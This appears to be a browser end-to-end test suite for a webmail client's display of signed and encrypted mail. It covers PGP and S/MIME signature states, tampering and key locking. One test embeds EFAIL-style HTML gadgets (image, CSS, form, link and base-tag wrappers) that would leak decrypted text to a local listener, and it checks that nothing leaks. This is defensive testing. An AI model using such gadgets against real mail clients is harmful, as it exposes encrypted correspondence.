/** Sealed messages in a real browser: each state of signature and encryption in its sentence, parts apart, and nothing that leaves the page. */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { describeWith } from '../support/describe-with.ts';
import { people } from '../support/lab.ts';
import { pathOf } from '../support/peers.ts';
import { type TemporaryFolder, temporaryFolder } from '../support/temporary.ts';
import { violations } from './support/axe.ts';
import { type WebLab, startWebLab } from './support/browser.ts';
import { deliverTo } from './support/deliver.ts';
import { jmap } from './support/writing.ts';

const ann = 'ann@elsewhere.test';
const crlf = (text: string): string => text.replaceAll('\r\n', '\n').replaceAll('\n', '\r\n');

describeWith('reading sealed messages', { peers: ['chromium', 'gpg', 'openssl'] }, () => {
  let web: WebLab;
  let folder: TemporaryFolder;
  let page: Page;

  const file = (name: string, content: Buffer | string): string => {
    const path = join(folder.path, name);
    writeFileSync(path, content);
    return path;
  };
  const run = (program: 'gpg' | 'openssl', ...args: readonly string[]): Buffer =>
    execFileSync(pathOf(program), args, { stdio: ['ignore', 'pipe', 'ignore'], timeout: 60_000 });
  const gpg = (...args: readonly string[]): Buffer =>
    run('gpg', '--homedir', folder.path, '--batch', '--yes', '--trust-model', 'always', ...args);

  const deliver = (subject: string, header: readonly string[], body: string, from = `Ann <${ann}>`): Promise<void> =>
    deliverTo(web.lab, people.alice, {
      subject,
      from,
      fields: [`Date: ${new Date().toUTCString()}`, 'MIME-Version: 1.0', ...header],
      text: body,
    });

  /** PGP/MIME over an entity. RFC 3156 §5 */
  const pgpSigned = (entity: string): readonly [header: readonly string[], body: string] => {
    const signature = gpg(
      '--armor',
      '--digest-algo',
      'SHA512',
      '--local-user',
      ann,
      '--detach-sign',
      '-o',
      '-',
      file('entity', crlf(entity)),
    );
    return [
      ['Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary=sig'],
      crlf(`--sig\n${entity}\n--sig\nContent-Type: application/pgp-signature\n\n${signature.toString()}\n--sig--\n`),
    ];
  };

  const open = async (subject: string): Promise<void> => {
    await page.goto('/mail');
    const list = page.getByRole('region', { name: 'Messages' });
    await list.getByRole('listitem').filter({ hasText: subject }).getByRole('button').first().click();
    await page.getByRole('heading', { name: subject, exact: true }).waitFor();
  };

  const article = () => page.getByRole('article');
  const said = (words: string): Promise<void> => article().getByText(words).first().waitFor();
  const shown = (words: string): Promise<void> => article().locator('pre').getByText(words).first().waitFor();

  beforeAll(async () => {
    web = await startWebLab();
    folder = temporaryFolder('sealed');
    gpg('--passphrase', '', '--quick-generate-key', `Ann <${ann}>`, 'future-default', 'default', 'never');
    page = await web.signedIn(people.alice);
  }, 120_000);
  afterAll(async () => {
    execFileSync('gpgconf', ['--homedir', folder.path, '--kill', 'all'], { timeout: 60_000 });
    folder.remove();
    await web.stop();
  });

  const text = 'Content-Type: text/plain; charset=utf-8\n\nThe key is under the mat.\n';

  it('says that a signature is of a key that is not known here', { timeout: 60_000 }, async () => {
    await deliver('unknown key', ...pgpSigned(text));
    await open('unknown key');
    await said('It is signed, but the key that proves it is not known here');
    await shown('The key is under the mat.');
    await page.getByRole('button', { name: 'Why?' }).click();
    const panel = page.getByRole('region', { name: 'How we know' });
    await panel.getByRole('heading', { name: 'Seals' }).waitFor();
    await panel.getByText('No signature of its author holds').waitFor();
    expect(await violations(page)).toEqual([]);
  });

  it('says by whom it is signed once the key is accepted', { timeout: 60_000 }, async () => {
    const octets = gpg('--export', ann).toString('base64');
    const key = { address: ann, standard: 'openpgp', octets, decision: 'verified' };
    expect(await jmap(page, ['ContactKey/set', { create: { key } }])).toMatchObject([{ created: { key: {} } }]);
    await open('unknown key');
    await said(`Signed by ${ann} (key verified`);
    await page.getByRole('button', { name: 'Why?' }).click();
    await page.getByText(`${ann} wrote it: the key is known to be theirs.`).waitFor();
  });

  it('says that what was signed was changed', { timeout: 60_000 }, async () => {
    const [header, body] = pgpSigned(text);
    await deliver('changed text', header, body.replace('under the mat', 'in the drawer'));
    await open('changed text');
    await said('The signature does not fit: this was changed after it was signed');
    await said('Mailing lists and gateways change mail');
    expect(await violations(page)).toEqual([]);
  });

  it('sets apart what a list put below', { timeout: 60_000 }, async () => {
    const [[type = ''], body] = pgpSigned(text);
    const footer = 'Content-Type: text/plain\r\n\r\nSent by the list.';
    await deliver(
      'with a footer',
      ['Content-Type: multipart/mixed; boundary=list'],
      `--list\r\n${type}\r\n\r\n${body}\r\n--list\r\n${footer}\r\n--list--\r\n`,
    );
    await open('with a footer');
    await said('Only a part of this is signed');
    await page
      .getByRole('region', { name: `This part alone was signed by ${ann}.` })
      .getByText('under the mat')
      .waitFor();
    await page
      .getByRole('region', { name: 'Nobody signed or encrypted this part' })
      .getByText('Sent by the list.')
      .waitFor();
    expect(await violations(page)).toEqual([]);
  });

  it('says for whom it is encrypted where there is no key', { timeout: 60_000 }, async () => {
    const sealed = gpg('--armor', '--recipient', ann, '--encrypt', '-o', '-', file('entity', crlf(text))).toString();
    const type = 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=enc';
    const control = 'Content-Type: application/pgp-encrypted\n\nVersion: 1\n';
    await deliver(
      'no key',
      [type],
      crlf(`--enc\n${control}\n--enc\nContent-Type: application/octet-stream\n\n${sealed}\n--enc--\n`),
    );
    await open('no key');
    await said('Encrypted for a key that you do not have here');
    const row = page.getByRole('region', { name: 'Messages' }).getByRole('listitem').filter({ hasText: 'no key' });
    await row.getByRole('img', { name: 'encrypted' }).waitFor();
    expect(await violations(page)).toEqual([]);
  });

  it('says that nobody known vouches for a certificate', { timeout: 60_000 }, async () => {
    const [key, certificate] = [join(folder.path, 'key.pem'), join(folder.path, 'cert.pem')];
    run(
      'openssl',
      ...['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', key],
      ...['-out', certificate, '-subj', '/CN=Ann', '-days', '30', '-addext', `subjectAltName=email:${ann}`],
      ...['-addext', 'keyUsage=digitalSignature', '-addext', 'extendedKeyUsage=emailProtection'],
    );
    const der = run(
      'openssl',
      'cms',
      '-sign',
      '-signer',
      certificate,
      '-inkey',
      key,
      '-nodetach',
      '-binary',
      '-in',
      file('entity', crlf(text)),
      '-outform',
      'DER',
    );
    const type = 'Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m';
    await deliver(
      'opaque',
      [type, 'Content-Transfer-Encoding: base64'],
      der.toString('base64').replaceAll(/.{76}/g, '$&\r\n'),
    );
    await open('opaque');
    await said('Signed with a certificate whose issuer you do not know');
    await shown('The key is under the mat.');
    await page.getByRole('button', { name: 'Compare', exact: true }).press('Enter');
    await said('Let ann@elsewhere.test read you this fingerprint');
    expect(await violations(page)).toEqual([]);
    await page.getByRole('button', { name: 'It is the same' }).click();
    await said(`Signed by ${ann} (key verified`);
    await page.getByRole('status').getByRole('button', { name: 'Undo' }).click();
    await said('Signed with a certificate whose issuer you do not know');
    await page.getByRole('button', { name: 'Refuse this key' }).click();
    await said('It was signed with a key that you refused');
  });

  describe('of who has keys', () => {
    const passphrase = 'nine herons above the grey harbour';
    let listener: Server;
    let url = '';
    let own = '';
    const heard: string[] = [];

    /** PGP/MIME, signed by Ann inside. RFC 3156 §6.2 */
    const encrypted = (entity: string, boundary: string): string => {
      const who = ['--digest-algo', 'SHA512', '--local-user', ann, '--recipient', own];
      const armor = gpg('--armor', ...who, '--sign', '--encrypt', '-o', '-', file('entity', crlf(entity))).toString();
      const control = 'Content-Type: application/pgp-encrypted\n\nVersion: 1\n';
      return crlf(
        `--${boundary}\n${control}\n--${boundary}\nContent-Type: application/octet-stream\n\n${armor}\n--${boundary}--\n`,
      );
    };
    const type = 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=enc';

    beforeAll(async () => {
      listener = createServer((request, response) => {
        heard.push(request.url ?? '');
        response.end();
      });
      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
      url = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
      await page.goto('/settings/keys');
      await page.getByLabel('Your name').fill('Alice');
      await page.getByLabel('New passphrase').fill(passphrase);
      await page.getByLabel('The same once more').fill(passphrase);
      await page.getByRole('button', { name: 'Make my key', exact: true }).click();
      await page.getByRole('button', { name: 'I have them' }).waitFor({ timeout: 90_000 });
      const [keys] = await jmap(page, ['AccountKey/get', { ids: null }]);
      const [key] = keys?.['list'] as readonly { readonly octets: string; readonly fingerprint: string }[];
      own = key?.fingerprint ?? '';
      await page.keyboard.press('Control+Alt+l');
      gpg('--import', file('alice.pgp', Buffer.from(key?.octets ?? '', 'base64')));
    }, 150_000);
    afterAll(() => new Promise((resolve) => listener.close(resolve)));

    const unlock = async (): Promise<void> => {
      await page.getByLabel('Passphrase', { exact: true }).fill(passphrase);
      await page.getByLabel('Keep them open').selectOption({ label: 'for this session' });
      await page.getByRole('button', { name: 'Open', exact: true }).click();
    };

    it('is opened where it is read, with the subject that stood inside', { timeout: 120_000 }, async () => {
      const outer = ['Subject: outer words', `From: Ann <${ann}>`, `To: ${people.alice}`].map(
        (one) => `HP-Outer: ${one}`,
      );
      const head = ['Content-Type: text/html; charset=utf-8; hp="cipher"', 'Subject: The real subject', ...outer].join(
        '\n',
      );
      const html = `<p>The key is under the mat.</p><img src="${url}/pixel.png"><p style="background:url(${url}/style)">x</p>`;
      const fields = `From: Ann <${ann}>\nTo: ${people.alice}\n`;
      await deliver('outer words', [type], encrypted(`${fields}${head}\n\n${html}\n`, 'enc'));
      await open('outer words');
      await page.getByRole('region', { name: 'Encrypted: your keys are locked' }).waitFor();
      expect(await violations(page)).toEqual([]);
      await unlock();
      await said(`Signed by ${ann} (key verified`);
      await said('end-to-end encrypted');
      await said('The real subject');
      await said('Outside it said: outer words');
      await page.frameLocator('iframe').getByText('The key is under the mat.').waitFor();
      await said('2 remote pictures are not shown. Of an encrypted message nothing is ever fetched');
      expect(await page.getByRole('button', { name: 'Show remote content' }).count()).toBe(0);
      await page.getByRole('button', { name: 'Why?' }).click();
      await page.getByText('only the keys that it was encrypted for open it').waitFor();
      expect(await violations(page)).toEqual([]);
      await page.getByRole('button', { name: 'View what was inside' }).click();
      await page.locator('pre').getByText('HP-Outer: Subject: outer words').waitFor();
    });

    it('is gone when the keys are locked', { timeout: 60_000 }, async () => {
      await page.keyboard.press('Control+Alt+l');
      await page.getByRole('region', { name: 'Encrypted: your keys are locked' }).waitFor();
      expect((await article().innerText()).includes('under the mat')).toBe(false);
      await unlock();
      await page.frameLocator('iframe').getByText('The key is under the mat.').waitFor();
    });

    it('gives nothing of what was decrypted to what stands round it', { timeout: 120_000 }, async () => {
      const part = (content: string): string => `--efail\r\nContent-Type: text/html\r\n\r\n${content}\r\n`;
      const secret = encrypted('Content-Type: text/html\n\n<p>secret words</p>', 'enc');
      const gadgets = [
        [`<img src="${url}/efail?`, '">'],
        [`<style>p{background:url(${url}/style?`, ')}</style>'],
        [`<form action="${url}/form"><textarea name="t">`, '</textarea><button>x</button></form>'],
        [`<a href="${url}/link?`, '">click</a>'],
        [`<base href="${url}/"><iframe srcdoc='`, "'></iframe>"],
      ] as const;
      for (const [at, [before, behind]] of gadgets.entries()) {
        await deliver(
          `gadget ${at}`,
          ['Content-Type: multipart/mixed; boundary=efail'],
          `${part(before)}--efail\r\n${type}\r\n\r\n${secret}\r\n${part(behind)}--efail--\r\n`,
        );
        await open(`gadget ${at}`);
        const apart = page.getByRole('region', { name: 'This part alone was signed by' });
        await apart.locator('iframe').contentFrame().getByText('secret words').waitFor();
        expect(await page.getByRole('button', { name: 'Show remote content' }).count()).toBe(0);
      }
      expect(heard).toEqual([]);
    });

    it('shows nothing of what was changed on its way', { timeout: 60_000 }, async () => {
      const sealed = encrypted('Content-Type: text/plain\n\nsecret words', 'enc').split('\r\n');
      const middle = Math.floor(sealed.length * 0.7);
      const line = sealed[middle] ?? '';
      sealed[middle] = `${line.startsWith('A') ? 'B' : 'A'}${line.slice(1)}`;
      await deliver('changed cipher', [type], sealed.join('\r\n'));
      await open('changed cipher');
      await said('Encrypted, but changed or damaged: nothing of that is shown');
      expect((await article().innerText()).includes('secret words')).toBe(false);
    });

    it('stands well on a phone and in the dark', { timeout: 60_000 }, async () => {
      await page.setViewportSize({ width: 390, height: 800 });
      await page.emulateMedia({ colorScheme: 'dark' });
      await page.reload();
      await said('changed or damaged');
      expect(await violations(page)).toEqual([]);
      const wide = 'document.documentElement.scrollWidth - document.documentElement.clientWidth';
      expect(await page.evaluate<number>(wide)).toBeLessThanOrEqual(0);
    });
  });
});
